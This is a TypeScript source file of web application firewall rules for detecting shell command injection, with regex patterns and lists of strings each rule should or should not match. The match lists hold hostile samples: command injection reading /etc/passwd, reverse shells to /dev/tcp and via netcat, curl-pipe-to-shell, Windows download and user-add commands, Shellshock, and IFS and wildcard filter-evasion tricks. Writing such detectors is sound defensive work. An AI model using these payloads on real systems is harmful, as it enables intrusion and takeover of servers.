/** Commands of a shell. They run behind a separator; text has separators, too, so at level 1 the separator follows the value's first word, or what follows can be nothing but an attack. */
import { BACKTICK, DOLLAR } from '../character-classes.ts';
import { IN_ALL, IN_FILE_NAME, IN_HEADER, IN_NAME, IN_VALUES, LINES, NORMAL, rule, SHELL, type WafRule } from '../rule.ts';

const WHERE = IN_VALUES | IN_NAME | IN_HEADER | IN_FILE_NAME;
const command = (given: Omit<Parameters<typeof rule>[0], 'category'>): WafRule =>
  rule({ category: 'command', targets: WHERE, form: SHELL, ...given });

/** Nobody writes these behind a separator by chance. */
const SURE =
  'whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|tftp|chmod|chown|useradd|adduser|systeminfo|tasklist|certutil|bitsadmin|wmic|powershell|pwsh|cmd(?:\\.exe)?|bash|zsh|ksh|dash|csh|busybox|gawk|nc|ncat|netcat|socat|telnet|ssh|scp|nmap|tcpdump|printenv|crontab|mkfifo|base64|xxd|iptables|lsb_release|nohup|sudo|getent|shutdown';
/** They are names of columns and things, too: in the middle of a list (`name;id;date`) they are nothing. */
const SHORT = 'id|ls|ps|pwd|env|dir|df|du|hostname|node|php|python[23]?|perl|ruby|lua|awk|route|fetch|passwd|dig|arp|reboot';
/** Nobody writes these behind an `&` with a space before it. */
const BEHIND_AND =
  '(?:whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|chmod|systeminfo|tasklist|certutil|powershell|cmd|bash)\\b|(?:id|ls|dir|env|pwd) *$|(?:ping|sleep|timeout) +[-/\\d]|(?:cat|type|dir|ls|head|tail) +(?:[-/]|c:)|net user\\b';
/** They are words: they need an argument as only a command has. */
const WORDLIKE =
  '(?:cat|tac|nl|head|tail|more|less|sort|uniq|find|grep|rm|mv|cp|touch|ping6?|kill|sleep|echo|printf|type|net|test|who|host|date|set|export|sh|tee|xargs|sed|cut|tr|source|file|strings|dd|install|time|vi|vim|nano|rev|od|wc|timeout)(?: +-{1,2}[a-z0-9]| +[^ ]{0,40}/| +[$`*?.~]| +[a-z0-9_]+\\.[a-z]| +\\d| +c:| +user\\b|[<>]| +[^ ]{1,40}(?: *[|>)]|[;&]))';
const AFTER = '(?:$|[ ;|&)`<>/\'"%#,}]|\\$)';
const CALLED = `(?:(?:/usr)?(?:/local)?/s?bin/)?(?:(?:${SURE})${AFTER}|(?:${SHORT})(?:$|[ )&\`<>#}]|\\$)|${WORDLIKE})`;

export const COMMAND_RULES: readonly WafRule[] = [
  command({
    id: 3200,
    description: 'A command behind a separator, behind the first word',
    words: [';', '|', '&', '\n'],
    form: SHELL,
    pattern: `^[^ ;|&\`$<>(){}]{0,120}(?:[ )]*(?:;|\\|\\|?|&&)+ *(?:[({!] *)?${CALLED}|&+ *${CALLED}| *& *(?:${BEHIND_AND}))|^ *[;|&]+ *(?:${SHORT}) *[;|&]`,
    matches: [
      '127.0.0.1; cat /etc/passwd',
      'x|id',
      '; ls -la',
      '127.0.0.1 && whoami',
      '||ping -c 5 x.y',
      '&dir c:',
      'a;c\\at /e\\tc/passwd',
      "x;c''at /etc/passwd",
      'a;cat$IFS/etc/passwd',
      '8.8.8.8|uname -a',
      'x & ping 127.0.0.1',
      '1;/usr/bin/id',
      ';echo 123;',
      "a';sleep 5;'",
    ],
    misses: [
      'rock & roll',
      'salt; cat food',
      'Tom & Jerry',
      'this | that',
      'npm install && npm run build',
      'a;b;c',
      'R&D',
      'AT&T',
      'id=5&x=7',
      'Marks & Spencer',
      'dogs & who',
      'black & white',
      'name;id;date',
      'more & more :-)',
      'time & date <3',
    ],
  }),
  command({
    id: 3201,
    description: 'A command behind a line end, behind the first word',
    form: LINES,
    words: ['\n', '\r'],
    pattern: `^[^ \\r\\n]{0,40}[\\r\\n]+[ "']*(?:whoami|uname -|id *$|ifconfig|ipconfig|netstat|wget +-?|curl +-?|cat +/|ls +[-/]|ping +-[cn]|nslookup |nc +-|bash +-|sh +-c|/bin/|/usr/bin/|sleep \\d)`,
    matches: ['127.0.0.1\nid', 'x\n/bin/cat /etc/passwd', 'a\r\nwhoami', '1\ncat /etc/passwd'],
    misses: ['hello\nworld', 'dear all\nid like to', 'Steps\nRun it'],
  }),
  command({
    id: 3202,
    description: 'A command in $( )',
    needs: DOLLAR,
    words: ['$('],
    pattern: `^[^ $]{0,120}[ ]?\\$\\( *${CALLED}|\\$\\( *(?:whoami|id|uname(?: -a)?|cat /etc/[a-z]+|curl [^)]{1,200}|wget [^)]{1,200}|nslookup [^)]{1,200}|sleep \\d+|ping -[cn] ?\\d[^)]{0,100}) *\\)`,
    matches: ['$(id)', 'x$(cat /etc/passwd)', 'a $(whoami)', '$(sleep 5)', '$(curl http://x/y)'],
    misses: ['$(document).ready(f)', "$('#id').show()", 'costs $(5)', 'export A=$(pwd)', 'jQuery $(this)'],
  }),
  command({
    id: 3203,
    description: 'A command in backticks, as a value',
    needs: BACKTICK,
    words: ['`'],
    pattern: `^[^ \`]{0,60}\` *${CALLED}[^\`]{0,200}\`?[^ ]{0,20}$`,
    form: SHELL,
    matches: ['`id`', 'x`whoami`', '`cat /etc/passwd`', '`sleep 5`'],
    misses: ['run `ls` first', '`const x = 5`', 'the `id` column'],
  }),
  command({
    id: 3204,
    targets: IN_ALL,
    description: 'A shell that calls back or takes its commands from elsewhere',
    words: [
      '/dev/tcp',
      '/dev/udp',
      'mkfifo',
      '-e /bin',
      '-e cmd',
      '-i >&',
      '0>&1',
      'bin/sh',
      'bin/bash',
      'bash -i',
      'fsockopen',
      'socket.socket',
      '|sh',
      '| sh',
      '|bash',
      '| bash',
      'pty.spawn',
    ],
    pattern:
      '/dev/(?:tcp|udp)/[^ /]{1,255}/\\d|\\b(?:nc|ncat|netcat)(?:\\.exe|\\.traditional)? .{0,80}-[a-z]*[ec]+ *(?:/bin/|cmd|powershell|bash|sh\\b)|mkfifo /tmp/|/bin/(?:ba|da|k|z|c)?sh -[ic] *[^ ]|^[^ ]{0,80}[;|&].{0,200}(?:curl|wget) .{1,200}\\| *(?:ba)?sh\\b|bash -i *>&|0>&1|pty\\.spawn\\(/bin|fsockopen\\(.{1,60}\\d+ *\\) *;.{0,40}(?:exec|system|proc_open)',
    matches: [
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'nc -e /bin/sh 10.0.0.1 4444',
      'rm /tmp/f;mkfifo /tmp/f',
      '/bin/bash -c "id"',
      'x;curl http://e/x|sh',
    ],
    misses: ['#!/bin/bash', 'the /dev/null device', 'run /bin/sh'],
  }),
  command({
    id: 3205,
    targets: IN_ALL,
    form: NORMAL,
    description: 'Shellshock (CVE-2014-6271)',
    words: ['()'],
    pattern: '^ *\\( *\\) *\\{',
    matches: ['() { :;}; /bin/id', '() { _; } >_[$($())] { id; }'],
    misses: ['function() { return 1; }', '() => { x }', '(a) { b }'],
  }),
  command({
    id: 3206,
    targets: WHERE,
    form: NORMAL,
    needs: DOLLAR,
    description: 'A space for those who may not write one',
    words: ['$ifs', '${ifs'],
    pattern: '\\$\\{?ifs\\b',
    matches: ['cat${IFS}/etc/passwd', 'x$IFS$9y'],
    misses: ['$if(x)', 'ifs'],
  }),
  command({
    id: 3207,
    description: 'Commands of Windows',
    words: [
      'powershell',
      'cmd',
      'certutil',
      'bitsadmin',
      'rundll32',
      'regsvr32',
      'mshta',
      'wmic',
      'net user',
      'net localgroup',
      'iex',
      'downloadstring',
      'invoke-',
    ],
    pattern:
      'powershell(?:\\.exe)? .{0,80}-(?:e|ec|enc|encodedcommand|nop|noprofile|w hidden|windowstyle hidden|exec bypass|c|command)\\b|\\bcmd(?:\\.exe)? */[cvk] *[^ ]|certutil(?:\\.exe)? .{0,40}-(?:urlcache|decode)|bitsadmin .{0,40}/transfer|rundll32(?:\\.exe)? +[^ ]+,|regsvr32(?:\\.exe)? .{0,40}/i:|mshta(?:\\.exe)? +(?:https?|javascript|vbscript):|wmic +(?:process|os|useraccount) +(?:call|get)|net (?:user|localgroup) .{0,80}/add|downloadstring *\\(|\\biex *\\( *(?:new-object|iwr|irm)|invoke-(?:expression|webrequest|mimikatz) ',
    matches: ['powershell -enc SQBFAFgA', 'cmd.exe /c dir', 'certutil -urlcache -f http://x/y z', 'net user x y /add', 'cmd /c whoami'],
    misses: ['the powershell guide', 'cmd + c', 'network users'],
  }),
  command({
    id: 3208,
    form: NORMAL,
    description: 'Names of commands in wildcards',
    words: ['/?', '/*', '?/', '*/', '[', '/b', '/e'],
    pattern:
      '(?:^|[;|&` $(])/(?:[a-z]{0,4}[?*\\[][a-z?*\\[\\]]{0,12})/[a-z?*\\[\\]]{0,8}[?*\\[][a-z?*\\[\\]]{0,12}(?:$|[ ;|&/])|(?:^|[;|&` (])/(?:bin|usr)/[a-z]{0,8}[?][a-z?]{0,12}(?: |$)',
    matches: ['/???/c?t /etc/passwd', ';/b?n/ca?', '/bin/ca? x', '/usr/bi? '],
    misses: ['/api/v1/users?id=5', 'a/*/b', '/* comment */', 'what/where?'],
  }),
  command({
    id: 3220,
    paranoia: 2,
    description: 'A command behind any separator',
    words: [';', '|', '&', '$(', '`', '{'],
    pattern: `(?:;|\\||&|\\$\\(|\`|\\{) *${CALLED}`,
    matches: ['some words; cat /etc/passwd', 'a b | whoami'],
    misses: ['rock & roll', 'this; that'],
  }),
  command({
    id: 3221,
    paranoia: 2,
    description: 'A path of a program',
    words: ['bin/'],
    pattern: '(?:^|[ ;|&(=`])(?:/usr)?(?:/local)?/s?bin/[a-z]',
    matches: ['/bin/ls', '/usr/sbin/x'],
    misses: ['/cabin/ls', 'bin/x'],
  }),
  command({
    id: 3230,
    paranoia: 3,
    targets: IN_VALUES,
    form: NORMAL,
    description: 'Characters of a shell',
    words: ['$(', '`', '${', '&&', '||', '>(', '<('],
    pattern: '\\$\\(|`|\\$\\{|&&|\\|\\||[<>]\\(',
    matches: ['$(x)', 'a && b'],
    misses: ['$5', 'a & b'],
  }),
];
